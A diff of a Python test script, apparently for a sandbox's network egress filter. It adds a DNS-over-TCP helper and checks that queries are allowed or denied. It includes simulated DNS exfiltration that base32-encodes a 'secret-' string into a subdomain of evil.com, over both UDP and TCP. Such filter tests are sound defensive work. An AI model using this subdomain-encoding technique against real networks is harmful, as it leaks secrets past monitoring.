@@ -47,11 +47,37 @@ def raw_exchange(data, wait_close=False):
     return got.decode(errors="replace").split("\r\n")[0]
 
 
-def dns_rcode(name):
+def dns_query(name):
     q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
     for label in name.split("."):
         q += bytes([len(label)]) + label.encode()
-    q += b"\0" + struct.pack(">HH", 1, 1)
+    return q + b"\0" + struct.pack(">HH", 1, 1)
+
+
+def dns_tcp(names):
+    """Queries over one TCP connection (two bytes of length, then the message): for each name,
+    (rcode, the first A record or None)."""
+    s = socket.create_connection(("127.0.0.1", 53), timeout=3)
+    got = []
+    for name in names:
+        q = dns_query(name)
+        s.sendall(struct.pack(">H", len(q)) + q)
+        buf = b""
+        while len(buf) < 2 or len(buf) < 2 + struct.unpack(">H", buf[:2])[0]:
+            chunk = s.recv(4096)
+            if not chunk:
+                raise OSError("closed after " + repr(buf))
+            buf += chunk
+        reply = buf[2:]
+        ancount = struct.unpack(">H", reply[6:8])[0]
+        addr = socket.inet_ntoa(reply[-4:]) if ancount else None
+        got.append((reply[3] & 0xF, addr))
+    s.close()
+    return got
+
+
+def dns_rcode(name):
+    q = dns_query(name)
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.settimeout(3)
     s.sendto(q, ("127.0.0.1", 53))
@@ -153,6 +179,11 @@ except OSError as e:
 label = base64.b32encode(b"secret-" + placeholder.encode()).decode().rstrip("=").lower()
 out("dns_exfil", name=f"{label}.evil.com", rcode=dns_rcode(f"{label}.evil.com"))
 out("dns_allowed_raw", rcode=dns_rcode("api.example.test"))
+try:
+    (ok_rcode, ok_addr), (bad_rcode, _) = dns_tcp(["api.example.test", "tcp-exfil.evil.com"])
+    out("dns_tcp", rcode=ok_rcode, addr=ok_addr, denied_rcode=bad_rcode, denied_name="tcp-exfil.evil.com")
+except OSError as e:
+    out("dns_tcp", error=repr(e))
 
 # A listed name that DNS points at the supervisor's own loopback is not reached.
 out("connect_local", status=raw_exchange(f"CONNECT localhost:{cfg['upstream_port']} HTTP/1.1\r\nHost: x\r\n\r\n".encode()))
